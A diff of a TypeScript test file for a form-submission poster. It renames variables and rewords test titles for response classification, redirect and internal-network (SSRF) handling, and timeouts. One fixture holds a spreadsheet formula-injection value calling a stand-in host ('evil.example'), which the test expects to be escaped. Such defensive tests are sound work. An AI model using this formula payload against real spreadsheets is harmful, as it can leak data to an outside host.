@@ -13,7 +13,7 @@ test.each<[string, number, string, string, string]>([
   ['text', 200, 'text/plain', 'ok', 'delivered'],
   ['nothing', 204, '', '', 'delivered'],
   ['JSON', 200, 'application/json', '{"result":"success"}', 'delivered'],
-  ['JSON that is no object', 200, 'application/json', 'null', 'delivered'],
+  ['JSON that is not an object', 200, 'application/json', 'null', 'delivered'],
   ['a page', 200, 'text/html; charset=utf-8', 'Sorry, unable to open the file', 'refused'],
   ['a page that is called text', 200, 'text/plain', '\n<!DOCTYPE html><p>Error', 'refused'],
   ['JSON that says error', 200, 'application/json', '{"result":"error","row":0}', 'refused'],
@@ -25,7 +25,7 @@ test.each<[string, number, string, string, string]>([
   ['429', 429, 'text/plain', '', 'unreached'],
   ['500', 500, 'text/plain', 'ok', 'unclear'],
   ['503', 503, 'text/html', '<p>', 'unclear'],
-])('an answer of %s means what it means', async (_, status, type, body, ending) => {
+])('an answer of %s has its meaning', async (_, status, type, body, ending) => {
   const address = await serve((_request, response) =>
     response.writeHead(status, { 'content-type': type }).end(body),
   )
@@ -33,10 +33,10 @@ test.each<[string, number, string, string, string]>([
   expect(await post(address)).toMatchObject({ ending })
 })
 
-test('the redirect is followed without the lead, and the answer behind it counts', async () => {
-  const seen: string[] = []
+test('the redirect is followed without the lead, and its answer counts', async () => {
+  const requests: string[] = []
   const answer = await serve(async (request, response) => {
-    seen.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
+    requests.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
     response.writeHead(request.url === '/fine' ? 200 : 500).end()
   })
   const script = (to: string) =>
@@ -44,30 +44,27 @@ test('the redirect is followed without the lead, and the answer behind it counts
 
   expect(await post(await script('/fine'))).toEqual({ ending: 'delivered' })
   expect(await post(await script('/broken'))).toEqual({ ending: 'unclear', why: 'it answered 500' })
-  expect(seen).toEqual(['GET /fine ', 'GET /broken '])
+  expect(requests).toEqual(['GET /fine ', 'GET /broken '])
 })
 
-test.each([307, 308])(
-  'a redirect that would carry the lead elsewhere (%i) is not followed',
-  async (status) => {
-    let asked = 0
-    const elsewhere = await serve((_request, response) => {
-      asked++
-      response.end()
-    })
-    const script = await serve((_request, response) =>
-      response.writeHead(status, { location: elsewhere }).end(),
-    )
+test.each([307, 308])('a redirect that would resend the lead (%i) is not followed', async (status) => {
+  let requests = 0
+  const elsewhere = await serve((_request, response) => {
+    requests++
+    response.end()
+  })
+  const script = await serve((_request, response) =>
+    response.writeHead(status, { location: elsewhere }).end(),
+  )
 
-    expect(await post(script)).toEqual({ ending: 'refused', why: `it answered ${status}` })
-    expect(asked).toBe(0)
-  },
-)
+  expect(await post(script)).toEqual({ ending: 'refused', why: `it answered ${status}` })
+  expect(requests).toBe(0)
+})
 
-test('a redirect that leads into the own network is not followed, unless the operator allows that host', async () => {
-  let asked = 0
+test('a redirect into the internal network is not followed, unless the operator allows the host', async () => {
+  let requests = 0
   const inside = await serve((_request, response) => {
-    asked++
+    requests++
     response.end('ok')
   })
   const script = await serve((_request, response) => response.writeHead(302, { location: inside }).end())
@@ -78,20 +75,20 @@ test('a redirect that leads into the own network is not followed, unless the ope
     ending: 'unclear',
     why: expect.stringContaining('PRIVATE_HOSTS'),
   })
-  expect(asked).toBe(0)
+  expect(requests).toBe(0)
   expect(await allowing(new URL(script).host, new URL(inside).host)).toEqual({ ending: 'delivered' })
 })
 
-test('redirects in a circle come to an end', async () => {
+test('redirect loops end', async () => {
   const script = await serve((_request, response) => response.writeHead(302, { location: '/again' }).end())
 
   expect(await post(script)).toEqual({ ending: 'refused', why: 'it answered 302' })
 })
 
-test('the id goes into the address, beside what the operator has there, and formulas are defused', async () => {
-  const seen: string[] = []
+test('the id is added to the operator’s query string, and formulas are escaped', async () => {
+  const requests: string[] = []
   const script = await serve(async (request, response) => {
-    seen.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
+    requests.push(`${request.method} ${request.url} ${await bodyOf(request)}`)
     response.end('ok')
   })
 
@@ -102,12 +99,12 @@ test('the id goes into the address, beside what the operator has there, and form
     new AbortController().signal,
   )
 
-  expect(seen).toEqual([
+  expect(requests).toEqual([
     `POST /exec?token=a+b&id=0199-id {"name":"'=IMPORTXML(\\"https://evil.example\\")","email":"amara@example.org","phone":"+919876543210"}`,
   ])
 })
 
-test('an endpoint that does not answer, answers in drops or is not there has an ending too', async () => {
+test('a silent, slow or unreachable endpoint times out', async () => {
   const silent = await serve(() => {})
   const endless = await serve((_request, response) => {
     response.writeHead(200)
